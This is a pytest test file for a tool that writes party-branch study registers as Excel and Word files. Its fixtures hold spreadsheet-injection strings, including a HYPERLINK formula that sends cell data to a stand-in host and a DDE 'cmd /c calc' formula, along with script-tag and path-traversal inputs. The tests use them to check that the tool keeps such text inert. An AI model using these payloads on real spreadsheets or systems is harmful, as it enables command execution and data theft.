"""``coursekit ledger``: a simulated cohort of three branches, from a store and from records.

The cohort: three branches, each with a secretary on the roster, members who
never studied, two members called 王伟, names and reflections that a
spreadsheet would take for formulas, and a learner whose store claims that
wrong answers were right. What each member did is planned here (:data:`PLAN`),
and the register's numbers are checked against the plan, not against the code
that counted them. The same work, sent as record files with the roster, gives
the same register.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from coursekit.answers import Answer
from coursekit.cli import main
from coursekit.ledger.register import chars
from coursekit.ledger.write import branch_folder
from coursekit.model import Course
from coursekit.records import export_record, write_record
from coursekit.store import RosterEntry, SQLStore, open_store
from test_cohort_report import right, wrong

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
ROSTER = [
    RosterEntry("wh-0101", "王伟", "第一党支部", "支部书记"),
    RosterEntry("wh-0102", "李娜", "第一党支部"),
    RosterEntry("wh-0103", "张敏", "第一党支部"),  # never studies
    RosterEntry("wh-0201", "王伟", "第二党支部", "组织委员"),
    RosterEntry("wh-0202", FORMULA, "第二党支部"),  # forges "right" answers
    RosterEntry("wh-0203", "刘洋", "第二党支部"),  # never studies
    RosterEntry("wh-0204", "@SUM(1+1)", "第二党支部", "书记"),
    RosterEntry("wh-0301", "陈静", "<b>第三</b>党支部", "党支部书记"),
    RosterEntry("wh-0302", "-2+3", "<b>第三</b>党支部"),
]
BRANCHES = ["<b>第三</b>党支部", "第一党支部", "第二党支部"]
HOSTILE_TEXT = (
    '=cmd|"/c calc"!A1 <script>alert(1)</script>\x1b[31m 红色 \u202e倒序\n'
    "第二段：学习体会。+SUM(A1:A9)"
)


@dataclass
class Work:
    """What one member does: answers (first one right or not), reads, reflections."""

    answered: int = 0
    first_correct: int = 0
    reads: dict[str, str] = field(default_factory=dict)  # module -> time (UTC)
    reflections: dict[str, str] = field(default_factory=dict)  # reflection id -> text


def plan(course: Course) -> dict[str, Work]:
    """Each member who studies does a different share of the course, in a known pattern."""
    work: dict[str, Work] = {}
    studying = ["wh-0101", "wh-0102", "wh-0201", "wh-0202", "wh-0204", "wh-0301", "wh-0302"]
    for n, member in enumerate(studying):
        w = work[member] = Work()
        for i, _ in enumerate(course.all_checkpoints()):
            if (i + n) % 3 == 0:
                continue
            w.answered += 1
            if (i + n) % 3 == 2 and member != "wh-0202":
                w.first_correct += 1
        for j, m in enumerate(course.modules):
            if (j + n) % 2 == 0:
                # 20:00 UTC is the next day in Asia/Shanghai, the course's time zone
                w.reads[m.id] = f"2020-02-0{5 + n % 3}T{12 + 4 * (n % 3):02d}:00:00+00:00"
            for k, r in enumerate(m.reflections):
                if (j + k + n) % 2 == 0:
                    w.reflections[r.id] = (
                        HOSTILE_TEXT if member == "wh-0202" else f"{member} 谈{r.id}"
                    )
    return work


def study(db: SQLStore, course: Course, work: dict[str, Work]) -> None:
    db.import_roster(ROSTER)
    for n, (member, w) in enumerate(work.items()):
        db.add_learner(member)
        for i, (module, q) in enumerate(course.all_checkpoints()):
            at = f"2020-02-05T08:{i:02d}:00+00:00"
            if (i + n) % 3 == 0:
                continue
            if (i + n) % 3 == 1:  # wrong first, then right
                db.add_attempt(member, course.id, module, q.id, wrong(q), False, at=at)
                later = at.replace(":00+", ":30+")
                db.add_attempt(member, course.id, module, q.id, right(q), True, at=later)
            else:
                forged = member == "wh-0202"  # the store says right; the key says wrong
                answer: Answer = wrong(q) if forged else right(q)
                db.add_attempt(member, course.id, module, q.id, answer, True, at=at)
        for module, at in w.reads.items():
            db.mark_read(member, course.id, module, at=at)
        prompts = {r.id: m.id for m in course.modules for r in m.reflections}
        for rid, text in w.reflections.items():
            db.save_reflection(member, course.id, prompts[rid], rid, text)
        # a reflection emptied again is no reflection
        if member == "wh-0102":
            rid = next(iter(prompts))
            if rid not in w.reflections:
                db.save_reflection(member, course.id, prompts[rid], rid, " \u3000\n")


@pytest.fixture
def cohort(store_url: str, course: Course) -> dict[str, Work]:
    work = plan(course)
    db = open_store(store_url)
    try:
        study(db, course, work)
    finally:
        db.close()
    return work


def exported(store_url: str, course: Course, members: Iterable[str], folder: Path) -> Path:
    """The members' records, exported from the store as a learner sends them, in ``folder``."""
    db = open_store(store_url)
    try:
        for member in members:
            write_record(course, export_record(course, db, member), folder / f"{member}.json")
    finally:
        db.close()
    return folder


def roster_csv(path: Path) -> Path:
    """:data:`ROSTER` as an organisation's CSV file, with its Chinese headers."""
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["编号", "姓名", "支部", "职务"])
        for e in ROSTER:
            writer.writerow([e.learner, e.name, e.branch, e.role or ""])
    return path


def run(*args: str) -> Any:
    return CliRunner().invoke(main, ["ledger", *args], catch_exceptions=False)


def table(path: Path) -> tuple[list[str], list[list[Any]]]:
    """The register's header and member rows (the rows between the header and the notes)."""
    sheet = load_workbook(path)["学习登记表"]
    rows = [list(r) for r in sheet.iter_rows(min_row=3, values_only=True)]
    header = [str(h) for h in rows[0]]
    members = []
    for row in rows[1:]:
        if row[0] is None:
            break
        members.append(row)
    return header, members


def local_day(stamp: str) -> dt.datetime:
    moment = dt.datetime.fromisoformat(stamp) + dt.timedelta(hours=8)  # Asia/Shanghai
    return dt.datetime(moment.year, moment.month, moment.day)


def test_the_register_has_a_row_per_member_with_the_planned_numbers(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    out = tmp_path / "ledger"
    result = run("--store", store_url, "--course", str(course.root), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "wrote the ledger of 3 branches" in result.output
    assert "  第二党支部: 3 of 4 members took part (75%), 1 not yet, " in result.output
    folders = sorted(p.name for p in out.iterdir() if p.is_dir())
    assert folders == sorted(branch_folder(b) for b in BRANCHES)
    assert (out / ".gitignore").read_text().splitlines()[-1] == "*"

    modules = list(course.modules)
    for branch in BRANCHES:
        folder = out / branch_folder(branch)
        assert sorted(p.name for p in folder.iterdir()) == sorted(
            f"{folder.name}-{doc}"
            for doc in ("学习登记表.xlsx", "主题党日活动记录.docx", "心得体会汇编.docx")
        )
        header, members = table(folder / f"{folder.name}-学习登记表.xlsx")
        assert header[:5] == ["序号", "姓名", "编号", "党支部", "职务"]
        assert header[-7:] == [
            "已读模块",
            "已答检查题",
            "首答正确",
            "首答正确率",
            "心得篇数",
            "心得字数",
            "备注",
        ]
        listed = [e for e in ROSTER if e.branch == branch]
        assert [(r[1], r[2], r[3], r[4]) for r in members] == [
            (e.name, e.learner, branch, e.role) for e in listed
        ]
        for row, entry in zip(members, listed, strict=True):
            w = cohort.get(entry.learner, Work())
            days = row[5 : 5 + len(modules)]
            assert days == [
                local_day(w.reads[m.id]) if m.id in w.reads else None for m in modules
            ], entry.learner
            stats = dict(zip(header[-7:], row[-7:], strict=True))
            assert stats["已读模块"] == f"{len(w.reads)}/{len(modules)}"
            assert stats["已答检查题"] == w.answered
            assert stats["首答正确"] == w.first_correct
            expected = w.first_correct / w.answered if w.answered else None
            assert stats["首答正确率"] == pytest.approx(expected)
            assert stats["心得篇数"] == len(w.reflections)
            assert stats["心得字数"] == sum(chars(t) for t in w.reflections.values())
            assert stats["备注"] == (None if entry.learner in cohort else "未参学")

    # graded from the key: the forged "right" answers of wh-0202 count as wrong
    _, second = table(out / "第二党支部" / "第二党支部-学习登记表.xlsx")
    forged = next(r for r in second if r[2] == "wh-0202")
    assert forged[-5] == 0 and forged[-6] > 0


def test_no_cell_of_any_sheet_is_a_formula_and_hostile_text_is_kept_as_typed(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    out = tmp_path / "ledger"
    assert run("--store", store_url, "--course", str(course.root), "--out", str(out)).exit_code == 0
    seen: set[str] = set()
    for path in out.rglob("*.xlsx"):
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
    assert FORMULA in seen
    assert "@SUM(1+1)" in seen and "-2+3" in seen
    assert "<b>第三</b>党支部" in seen


def test_the_register_is_set_up_for_printing(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    out = tmp_path / "ledger"
    assert run("--store", store_url, "--course", str(course.root), "--out", str(out)).exit_code == 0
    book = load_workbook(out / "第一党支部" / "第一党支部-学习登记表.xlsx")
    sheet = book["学习登记表"]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9  # A4, as OOXML numbers paper sizes
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == "$3:$3"  # the header row on every page
    assert sheet.freeze_panes == "C4"
    assert sheet["B3"].font.name == "黑体" and sheet["B4"].font.name == "宋体"
    # a column is as wide as its widest cell, a Chinese character counting two
    assert sheet.column_dimensions["D"].width >= len("第一党支部") * 2
    assert sheet["A1"].value.endswith(" 学习登记表")
    assert "支部书记：王伟" in sheet["A2"].value and "应参学 3 人，实参学 2 人" in sheet["A2"].value
    details = book["心得明细"]
    assert [c.value for c in details[1]] == [
        "序号",
        "姓名",
        "编号",
        "模块",
        "心得题目",
        "提交日期",
        "字数",
    ]


def test_records_and_a_roster_give_the_register_the_store_gives(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    records = exported(store_url, course, cohort, tmp_path / "records")
    roster = roster_csv(tmp_path / "roster.csv")
    by_store = run("--store", store_url, "--course", str(course.root), "--out", str(tmp_path / "s"))
    assert by_store.exit_code == 0, by_store.output
    by_files = run(
        str(records),
        "--roster",
        str(roster),
        "--course",
        str(course.root),
        "--out",
        str(tmp_path / "f"),
    )
    assert by_files.exit_code == 0, by_files.output
    assert by_files.output.splitlines()[1:] == by_store.output.splitlines()[1:]
    for branch in BRANCHES:
        name = branch_folder(branch)
        register = f"{name}/{name}-学习登记表.xlsx"
        assert table(tmp_path / "f" / register) == table(tmp_path / "s" / register)


def test_records_without_a_roster_list_the_learners_who_sent_them(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    records = exported(store_url, course, ["wh-0101", "wh-0102"], tmp_path / "records")
    (records / "broken.json").write_text("{", encoding="utf-8")
    out = tmp_path / "ledger"
    result = run(str(records), "--course", str(course.root), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "  skipped " in result.output and "broken.json" in result.output
    assert "  第一党支部: 2 of 2 members took part (100%), " in result.output
    _, members = table(out / "第一党支部" / "第一党支部-学习登记表.xlsx")
    assert [(r[1], r[2], r[4]) for r in members] == [
        ("王伟", "wh-0101", None),
        ("李娜", "wh-0102", None),
    ]


def test_one_branch_only_and_an_unknown_branch_names_the_ones_there_are(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    out = tmp_path / "ledger"
    args = ["--store", store_url, "--course", str(course.root), "--out", str(out)]
    result = run(*args, "--branch", "第二党支部")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == [
        ".coursekit-output.json",
        ".gitignore",
        "第二党支部",
    ]
    result = run(*args, "--branch", "第四党支部")
    assert result.exit_code == 2
    assert "error: --branch: no member of branch '第四党支部'" in result.output
    assert "第一党支部" in result.output
    assert "Traceback" not in result.output
    # the ledger written before is still there, untouched
    assert sorted(p.name for p in out.iterdir()) == [
        ".coursekit-output.json",
        ".gitignore",
        "第二党支部",
    ]


def test_a_ledger_is_never_written_inside_a_published_site(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    site.mkdir()
    # what coursekit publish leaves in a site: its manifest
    (site / ".coursekit-output.json").write_text(
        '{"format": "coursekit.output/1", "command": "publish", "files": {}}', encoding="utf-8"
    )
    for command in (["ledger", "--store", store_url], ["report", "--store", store_url]):
        result = CliRunner().invoke(
            main, [*command, "--course", str(course.root), "--out", str(site / "trainer" / "x")]
        )
        assert result.exit_code == 2, result.output
        assert "a site coursekit publish wrote for the web" in result.output
    assert sorted(p.name for p in site.iterdir()) == [".coursekit-output.json"]


def test_bad_input_exits_2_and_writes_nothing(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    out = tmp_path / "ledger"
    records = tmp_path / "records"
    records.mkdir()
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "编号,姓名,支部,职务\nwh-1,王伟,一支部,书记\n,李娜,一支部,\n", encoding="utf-8"
    )
    cases = [
        (["--store", store_url, str(records)], "not both"),
        ([], "not both"),
        (["--store", store_url, "--roster", str(roster)], "a store has its roster"),
        ([str(records), "--roster", str(roster)], f"error: {roster}:3: [编号] no learner id"),
        ([str(tmp_path / "nowhere")], "no such file or folder"),
        ([str(records), "--template", str(roster)], str(roster)),
    ]
    for args, message in cases:
        result = run(*args, "--course", str(course.root), "--out", str(out))
        assert result.exit_code == 2, (args, result.output)
        assert message in result.output, (args, result.output)
        assert "Traceback" not in result.output
        assert not out.exists()


def test_a_second_run_replaces_the_ledgers_files_and_keeps_the_secretarys(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    out = tmp_path / "ledger"
    args = ["--store", store_url, "--course", str(course.root), "--out", str(out)]
    assert run(*args).exit_code == 0
    signed = out / "第一党支部" / "签字扫描件.pdf"
    signed.write_bytes(b"%PDF-1.4 signed")
    register = out / "第一党支部" / "第一党支部-学习登记表.xlsx"
    register.write_bytes(b"changed by hand")
    result = run(*args)
    assert result.exit_code == 2
    assert "changed" in result.output and "--force" in result.output
    result = run(*args, "--force")
    assert result.exit_code == 0, result.output
    assert signed.read_bytes() == b"%PDF-1.4 signed"
    assert "kept what coursekit did not write" in result.output
    assert load_workbook(register)["学习登记表"]["A3"].value == "序号"


@pytest.mark.parametrize(
    ("name", "folder"),
    [
        ("第一党支部", "第一党支部"),
        ("<b>第三</b>党支部", "_b_第三__b_党支部"),
        ("../../etc", "_.._.._etc"),
        ("..", "_"),
        (".gitignore", "_.gitignore"),
        ("CON", "_CON"),
        ("a/b\\c:d", "a_b_c_d"),
        ("支部\u202e", "支部_"),
        ("长" * 100, "长" * 60),
    ],
)
def test_a_branch_gets_a_folder_of_its_own_name_made_safe(name: str, folder: str) -> None:
    assert branch_folder(name) == folder


def test_the_ledger_reads_bounded_csv_through_the_roster_reader(tmp_path: Path) -> None:
    """The roster's role column (职务) is read, and a control character in it is refused."""
    from coursekit.errors import CourseInvalid
    from coursekit.roster import read_roster

    path = tmp_path / "roster.csv"
    path.write_bytes("编号,姓名,支部,职务\nwh-1,王伟,一支部,支部书记\nwh-2,李娜,一支部,\n".encode())
    assert read_roster(path) == [
        RosterEntry("wh-1", "王伟", "一支部", "支部书记"),
        RosterEntry("wh-2", "李娜", "一支部", None),
    ]
    path.write_bytes(io.BytesIO("编号,姓名,职务\nwh-1,王伟,书记\x1b[2J\n".encode()).getvalue())
    with pytest.raises(CourseInvalid) as caught:
        read_roster(path)
    assert str(caught.value.problems[0]).endswith("role '书记\\x1b[2J' holds a control character")


def test_the_word_documents_say_what_the_plan_did_from_the_store_and_from_records(
    cohort: dict[str, Work], store_url: str, course: Course, tmp_path: Path
) -> None:
    """The activity record's fields and every reflection once, under its prompt and member."""
    from docx import Document

    from test_ledger_docx import form, sections

    records = exported(store_url, course, cohort, tmp_path / "records")
    roster = roster_csv(tmp_path / "roster.csv")
    made = {
        "store": run(
            "--store", store_url, "--course", str(course.root), "--out", str(tmp_path / "s")
        ),
        "records": run(
            str(records),
            "--roster",
            str(roster),
            "--course",
            str(course.root),
            "--out",
            str(tmp_path / "f"),
        ),
    }
    names = {e.learner: e.name for e in ROSTER}
    prompts = {r.id: r.prompt for m in course.modules for r in m.reflections}
    for source, out in (("store", tmp_path / "s"), ("records", tmp_path / "f")):
        assert made[source].exit_code == 0, made[source].output
        for branch in BRANCHES:
            folder = out / branch_folder(branch)
            listed = [e for e in ROSTER if e.branch == branch]
            took_part = [e for e in listed if e.learner in cohort]
            fields = form(Document(str(folder / f"{folder.name}-主题党日活动记录.docx")))
            assert fields["党支部"] == branch, source
            assert fields["活动主题"] == course.title  # the factory course names no activity
            assert fields["支部书记"] == "、".join(
                e.name for e in listed if e.role in ("支部书记", "书记", "党支部书记")
            )
            assert fields["应参学人数"] == f"{len(listed)}人"
            assert fields["实参学人数"] == f"{len(took_part)}人"
            absent = [e.name for e in listed if e.learner not in cohort]
            assert fields["未参学党员"] == ("、".join(absent) or "无"), (source, branch)
            for blank in ("主持人", "记录人", "支部书记签字", "日期"):
                assert fields[blank] == "", (source, blank)

            _, answers, _ = sections(Document(str(folder / f"{folder.name}-心得体会汇编.docx")))
            expected = {
                prompt: sorted(
                    (
                        names[e.learner],
                        [
                            line.strip()
                            for line in cohort[e.learner].reflections[rid].splitlines()
                            if line.strip()
                        ],
                    )
                    for e in took_part
                    if rid in cohort[e.learner].reflections
                )
                for rid, prompt in prompts.items()
            }
            found = {
                prompt: sorted((member, lines) for member, _, lines in given)
                for prompt, given in answers.items()
            }
            # the compilation's text is the secretary's copy: control characters become U+FFFD
            clean = {
                p: [
                    (n, [line.replace("\x1b", "\ufffd").replace("\u202e", "\ufffd") for line in ls])
                    for n, ls in given
                ]
                for p, given in expected.items()
            }
            assert found == clean, (source, branch)
            written = sum(len(cohort[e.learner].reflections) for e in took_part)
            assert written > 0 and sum(len(v) for v in found.values()) == written


def test_an_unknown_branch_from_the_service_names_no_branches_the_token_may_not_see(
    course: Course,
) -> None:
    """Through the service the ledger holds only what the caller may see: an unknown --branch
    is refused without listing branches (there is no list the caller may be shown)."""
    from coursekit.cli.ledger import _refuse_unknown
    from coursekit.errors import CourseInvalid
    from coursekit.ledger.data import Ledger

    with pytest.raises(CourseInvalid) as caught:
        _refuse_unknown({"第四党支部"}, Ledger(course, (), "https://hub/services/coursekit/"), None)
    assert [str(p) for p in caught.value.problems] == [
        "--branch: no member of branch '第四党支部' that you may see"
    ]
